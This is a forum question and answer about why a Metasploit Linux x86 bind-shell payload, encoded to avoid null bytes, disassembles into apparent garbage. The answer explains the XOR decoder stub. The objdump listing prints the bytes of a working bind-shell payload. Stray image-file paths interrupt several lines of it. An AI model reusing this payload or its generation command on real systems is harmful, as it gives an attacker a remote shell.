So I just used metasploit to generate the payload/linux/x86/shell_bind_tcp payload without null bytes (generate -t raw -b '\x00' -f shellcode). Here's the shellcode:

$ xxd -p shellcode

And here's what objdump thinks the shellcode is:

$ objdump -D -b binary -m i386 shellcode

shellcode:     file format binary

Disassembly of section .data:

00000000 <.data>:
   0:   db dd                   fcmovnu st,st(5)
   2:   d9 74 24f4             fnstenv [esp-0xc]
   6:   5e                      pop    esi
   7:   33 c9                   xor    ecx,ecx
   9:   bf 0e 0f 58 44          mov    edi,0x44580f0e
   e:   b1 14                   mov    cl,0x14
  10:   31 7e 19                xor    DWORD PTR [esi+0x19],edi
  13:   83 c6 04                add    esi,0x4
  16:   03 7e 15                add    edi,DWORD PTR [esi+0x15]
  19:   ec                      in     al,dx
  1a:   fa                      cli
  1b:   69 9f 07 e7 d9 5c b4    imul   ebx,DWORD PTR [edi+0x5cd9e707],0xebdf82b4
  22:   82 df eb
  25:   db e3                   fninit
  27:   86 26                   xchg   BYTE PTR [esi],ah
  29:   9b                      fwait
  2a:   5f                      pop    edi
  2b:   19 eb                   sbb    ebx,ebp
  2d:   f3 5d                   repz pop ebp
  2f:   a5                      movs   DWORD PTR es:[edi],DWORD PTR ds:[esi]
  30:   1a 5f 08                sbb    bl,BYTE PTR [edi+0x8]
  33:   b5 4d                   mov    ch,0x4d
  35:   0f 45 54 07 c9          cmovne edx,DWORD PTR [edi+eax*1-0x37]
  3a:   0d 5a 58 9c ef          or     eax,0xef9c585a
  3f:   60                      pusha
  40:   ea 9a 5f 0e c1 22 dc    jmp    0xdc22:0xc10e5f9a
  47:   7f bf                   jg     0x8
  49:   ef                      out    dx,eax
  4a:   63 ec                   arpl   sp,bp
  4c:   19 85 5c 4b 57d9       sbb    DWORD PTR [ebp-0x26a8b4a4],eax
  52:   ea 12 9f b1 c3 cb 2c    jmp    0x2ccb:0xc3b19f12
  59:   29 74 3b b1             sub    DWORD PTR [ebx+edi*1-0x4f],esi
  5d:   c0 ea ca                shr    dl,0xca
  60:   d6                      (bad)
  61:   42                      inc    edx
  62:   a0 45 f9 d2 4d          mov    al,ds:0x4dd2f945
  67:   9b                      fwait
  68:   7a                      .byte 0x7a

This link also gives a similar disassembly: http://www.onlinedisassembler.com/odaweb/x1SSxJ/0

I might be wrong, but this shellcode seems strange. First of all, it doesn't work, but that's not enough to show that it's wrong. The second issue is that objdump says (bad) near the bottom, which probably means the assembly is wrong. The final thing is that I have no clue what it's doing after reading the assembly. Generating the shellcode for this same payload with null bytes gives correct, readable assembly. I don't think removing null bytes can add this much complexity to the shellcode.

Did I do something wrong? If not, can someone explain how the shellcode works?

1 Answer 1


Alright, I've gotten some answers from asking in the IRC channel.

When you use -b, the shellcode is encoded to avoid the bytes specified. The decoder is attached to the beginning, and that code is actually readable and makes sense. This specific decoder apparently does something with XORing bytes in the shellcode, which explains why the shellcode looks like garbage when disassembled (they're not actually instructions). Also, stepping through the shellcode with GDB often will not work because GDB will replace the next instruction with 0xCC, or a breakpoint. This means the decoder will XOR the wrong bytes, causing the program to crash.

The shellcode is actually correct and I've gotten it to work for my exploit.

You must log into answer this question.

Not the answer you're lookingfor? Browse other questions tagged .